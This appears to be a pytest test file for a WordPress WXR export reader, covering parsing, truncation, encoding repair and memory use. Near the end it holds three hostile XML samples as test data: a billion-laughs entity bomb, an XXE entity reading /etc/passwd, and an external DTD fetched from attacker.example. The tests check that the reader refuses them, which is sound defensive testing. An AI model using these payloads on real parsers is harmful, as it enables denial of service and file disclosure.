"""The streaming reader: what it reads of an export, and what it does with a broken,
mis-encoded or hostile one (refused before anything is read)."""

import io
import tracemalloc

import pytest

from interchange.wordpress.wxr import Author, Item, Problem, Site, Term, UnsafeExport, read_wxr
from tests.helpers.wxr import WXRWriter
from tests.helpers.wxr_sites import ARTICLE, RIG, write_large_export, write_realistic_export


def read_all(data):
    return list(read_wxr(io.BytesIO(data)))


def small_export(*items, encoding="utf-8"):
    buffer = io.StringIO()
    with WXRWriter(buffer) as wxr:
        wxr.author("jsmith", email="j@example.org", display_name="Jane Smith")
        for number, content in enumerate(items, start=1):
            wxr.item(str(number), title=f"Post {number}", slug=f"post-{number}", content=content)
    return buffer.getvalue().encode(encoding)


def test_reads_the_site_authors_terms_and_items(tmp_path):
    path = write_realistic_export(tmp_path / "export.xml")
    with open(path, "rb") as raw:
        entries = list(read_wxr(raw))
    site = entries[0]
    assert isinstance(site, Site)
    assert (site.url, site.base_site_url, site.language) == (
        "https://example.org", "https://example.org", "en-US",
    )  # fmt: skip
    authors = [entry for entry in entries if isinstance(entry, Author)]
    assert [author.login for author in authors] == ["jsmith", "admin"]
    assert authors[0].email == "jane@example.org"
    terms = {(term.taxonomy, term.slug): term for term in entries if isinstance(term, Term)}
    assert terms[("category", "gulf")].parent == "middle-east"
    assert terms[("post_tag", "opec")].name == "OPEC"
    assert terms[("post_translations", "pll_5f1a")].description.startswith("a:2:{")
    items = {item.id: item for item in entries if isinstance(item, Item)}
    article = items[ARTICLE]
    assert article.type == "post" and article.status == "publish"
    assert article.meta["_thumbnail_id"] == RIG
    assert ("category", "energy", "Energy") in article.terms
    assert article.content.startswith("Oil prices rose again[efn_note]")
    assert items[RIG].meta["_wp_attached_file"] == "2019/03/rig.jpg"
    assert not [entry for entry in entries if isinstance(entry, Problem)]


def test_a_cdata_end_inside_content_is_read_back():
    entries = read_all(small_export("a ]]> b <![CDATA[ c"))
    assert [entry.content for entry in entries if isinstance(entry, Item)] == [
        "a ]]> b <![CDATA[ c"
    ]


def test_a_truncated_file_keeps_the_items_before_the_break():
    data = small_export("first", "second", "third")
    cut = data[: data.index(b"<title><![CDATA[Post 3")]
    entries = read_all(cut)
    assert [entry.id for entry in entries if isinstance(entry, Item)] == ["1", "2"]
    problem = entries[-1]
    assert isinstance(problem, Problem) and problem.stopped
    assert "line" in problem.message and "stopped there" in problem.message


def test_a_file_that_is_not_xml_gives_one_problem():
    entries = read_all(b"PK\x03\x04 this is a zip file")
    assert isinstance(entries[0], Site)
    assert entries[-1].stopped


def test_bytes_that_are_not_utf8_are_replaced_and_reported():
    data = small_export("caf\u00e9").replace("café".encode(), b"caf\xe9")  # Latin-1 inside
    entries = read_all(data)
    assert [entry.content for entry in entries if isinstance(entry, Item)] == ["caf\ufffd"]
    problems = [entry for entry in entries if isinstance(entry, Problem)]
    assert len(problems) == 1 and not problems[0].stopped
    assert "1 byte sequence" in problems[0].message


def test_a_declared_encoding_is_honoured():
    data = small_export("caf\u00e9 \u20ac", encoding="cp1252").replace(
        b'"UTF-8"', b'"windows-1252"'
    )
    entries = read_all(data)
    assert [entry.content for entry in entries if isinstance(entry, Item)] == ["café €"]
    assert not [entry for entry in entries if isinstance(entry, Problem)]


def test_characters_xml_forbids_are_removed_and_reported():
    entries = read_all(small_export("vertical\x0btab\x00"))
    assert [entry.content for entry in entries if isinstance(entry, Item)] == ["verticaltab"]
    assert "2 character(s)" in entries[-1].message


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss><channel><item><title>&lol3;</title></item></channel></rss>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&secret;</title></item></channel></rss>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused_with_a_clear_message(data):
    with pytest.raises(UnsafeExport, match="document type or entities.*refused"):
        read_all(data)


def test_memory_stays_flat_however_many_posts(tmp_path):
    """Each element is let go once read: ten times the posts, about the same peak."""

    def peak(posts):
        path = write_large_export(tmp_path / f"{posts}.xml", posts=posts)
        tracemalloc.start()
        with open(path, "rb") as raw:
            count = sum(isinstance(entry, Item) for entry in read_wxr(raw))
        _size, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return count, top

    small_count, small_peak = peak(200)
    large_count, large_peak = peak(2000)
    assert (small_count, large_count) == (220, 2200)
    assert large_peak < small_peak * 2
